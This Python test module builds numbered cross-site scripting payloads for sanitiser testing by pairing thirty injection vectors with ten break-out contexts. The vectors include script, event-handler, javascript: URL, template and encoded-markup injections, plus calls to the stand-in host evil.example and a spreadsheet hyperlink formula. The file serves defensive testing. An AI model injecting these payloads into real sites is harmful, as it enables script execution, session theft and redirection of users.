"""What somebody might type to make a page run it: thirty vectors, each in ten places that it breaks out of.

Each payload bears its own number, so that a test tells which of them ran and where each is shown. None is
longer than the shortest field of words, and no two differ by case alone.
"""

from itertools import product

VECTORS = (
    # scripts, and what loads one
    "<script>ran(N)</script>",
    "<ScRiPt src=//evil.example/N.js></sCrIpT>",
    "<svg><script>ran(N)</script></svg>",
    "<scr<script>ipt>ran(N)</scr</script>ipt>",
    # handlers of events
    "<img src=x onerror=ran(N)>",
    "<svg onload=ran(N)>",
    "<math><mtext><img src=x onerror=ran(N)></mtext></math>",
    "<details open ontoggle=ran(N)>x</details>",
    "<video><source onerror=ran(N)></video>",
    "<input autofocus onfocus=ran(N)>",
    '" autofocus onfocus=ran(N) x="',
    "' tabindex=1 onmouseover=ran(N) x='",
    # addresses that run, and pages within the page
    "<a href=javascript:ran(N)>x</a>",
    '<a href=" java&#10;script:ran(N)">x</a>',
    '<iframe srcdoc="<script>parent.ran(N)</script>"></iframe>',
    "<iframe src=javascript:parent.ran(N)></iframe>",
    '<object data="data:text/html,<script>alert(N)</script>"></object>',
    # calls to another host, forms and addresses led astray
    "<img src=//evil.example/N.png>",
    '<meta http-equiv=refresh content="0;url=//evil.example/N">',
    "<base href=//evil.example/N/>",
    "<form action=//evil.example/N><button formaction=javascript:ran(N)>x</button></form>",
    '<style>@import "//evil.example/N.css";</style>',
    '<p style="background:url(//evil.example/N.png)">x</p>',
    # what the page's own script would obey, and templates
    "<div hx-get=//evil.example/N hx-trigger=load>x</div>",
    '<div hx-get=/ hx-trigger=load hx-on::load="ran(N)">x</div>',
    "{{ran(N)}}{% include 'N' %}${ran(N)}<%= ran(N) %>",
    # what is decoded or folded once too often, and a formula
    "&lt;img src=x onerror=ran(N)&gt;&#60;script&#62;ran(N)",
    r"\u003cimg src=x onerror=ran(N)\u003e\x3csvg onload=ran(N)\x3e",
    "\uff1cscript\uff1eran(N)\uff1c/script\uff1e",
    '=hyperlink("http://evil.example/N","x")',
)
# Plain text; attributes; a comment; the elements whose words aren't markup.
CONTEXTS = ("", '">', "'>", "x> ", "-->", "</script>", "</textarea>", "</title>", "</option>", "</noscript>")

PAYLOADS = tuple(
    context + vector.replace("N", str(number))
    for number, (context, vector) in enumerate(product(CONTEXTS, VECTORS), 1000)
)
